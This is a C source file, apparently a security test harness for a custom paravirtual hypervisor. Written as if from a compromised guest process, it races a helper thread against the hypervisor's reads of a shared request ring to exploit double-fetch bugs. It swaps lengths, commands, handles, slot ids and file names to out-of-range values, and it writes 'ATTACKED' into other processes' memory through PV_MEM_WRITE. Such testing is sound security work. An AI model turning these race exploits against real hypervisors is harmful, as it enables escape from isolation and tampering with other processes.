/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Code that has taken over a guest process, and makes PV calls of its own.
 *
 * flip HOW SECONDS: a request's fields or its name change while the hypervisor serves it (double fetch): "names" between two that
 * are both allowed, else between values of which one is out of range. Prints how often which answer came.
 * mem PID ADDRESS: PV_MEM_WRITE of "ATTACKED" to a process; prints the answer.
 */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "layout.h"
#include "ring.h"

#define SLOT (RING_SLOTS - 2) /* the kernel takes the first that is free, and the last when it panics */

static struct ring_header *const ring = (struct ring_header *)KRING_BASE;

static volatile int go = 1;
static volatile u32 target; /* the request's place in the ring */
static struct pv_request variants[2];

static char *buffer(void)
{
	return (char *)KRING_BASE + RING_DATA_OFF + SLOT * RING_BUF_SIZE;
}

/* Makes no call: the ring is the other thread's. */
static void *flip_request(void *arg)
{
	(void)arg;
	for (unsigned int n = 0; go; n++)
		memcpy(&ring->requests[target], &variants[n % 2], sizeof(variants[0]));
	return NULL;
}

static void *flip_name(void *arg)
{
	(void)arg;
	for (unsigned int n = 0; go; n++)
		memcpy(buffer(), n % 2 ? "/etc/hosts" : "/etc/absen", 10);
	return NULL;
}

static s32 issue(const struct pv_request *r)
{
	u32 at = ring->req_prod;

	target = at % RING_SLOTS;
	ring->state[SLOT] = SLOT_PENDING;
	ring->requests[target] = *r;
	__atomic_store_n(&ring->req_prod, at + 1, __ATOMIC_SEQ_CST);
	while (__atomic_load_n(&ring->state[SLOT], __ATOMIC_SEQ_CST) != SLOT_DONE)
		if (__atomic_load_n(&ring->sleeping, __ATOMIC_SEQ_CST))
			access("/etc", F_OK); /* a call of the kernel's own rings the bell */
	ring->state[SLOT] = SLOT_FREE;
	return ring->responses[SLOT].ret;
}

static void set_variants(const char *how)
{
	struct pv_request *v = variants;

	v[0] = v[1] = (struct pv_request){ .req_id = SLOT, .cmd = PV_STAT, .u.path.path_len = 10 };
	if (!strcmp(how, "length"))
		v[1].u.path.path_len = 0xffff;
	else if (!strcmp(how, "command"))
		v[1] = (struct pv_request){ .req_id = SLOT, .cmd = PV_MEM_READ, .u.ctl.len = 0x7fffffff };
	else if (!strcmp(how, "handle"))
		v[1].u.path.dir = 0xfffffff0;
	else if (!strcmp(how, "slot"))
		v[1].req_id = 0x7fffffff;
}

/* At least a second, and until the other thread has had its chance. */
static void flip(const char *how, int seconds)
{
	void *(*work)(void *) = strcmp(how, "names") ? flip_request : flip_name;
	long good = 0, absent = 0, other = 0;
	time_t start = time(NULL);
	pthread_t thread;

	set_variants(how);
	pthread_create(&thread, NULL, work, NULL);
	while (time(NULL) <= start + 1 || (time(NULL) <= start + seconds && !(good && absent))) {
		s32 ret;

		memcpy(buffer(), "/etc/hosts", 10); /* the answer before is there */
		ret = issue(&variants[0]);
		good += ret >= 0;
		absent += ret == -ENOENT;
		other += ret < 0 && ret != -ENOENT;
	}
	go = 0;
	pthread_join(thread, NULL);
	printf("%ld good, %ld absent, %ld other\n", good, absent, other);
}

static void mem(u32 pid, u64 address)
{
	struct pv_request r = { .req_id = SLOT, .cmd = PV_MEM_WRITE, .u.ctl = { .arg = address, .len = 8, .pid = pid } };

	memcpy(buffer(), "ATTACKED", 8);
	printf("%d\n", issue(&r));
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "flip"))
		flip(argv[2], atoi(argv[3]));
	else if (argc > 3 && !strcmp(argv[1], "mem"))
		for (int i = 3; i < argc; i++)
			mem((u32)atoi(argv[i]), strtoul(argv[2], NULL, 0));
	else
		return 2;
	return 0;
}
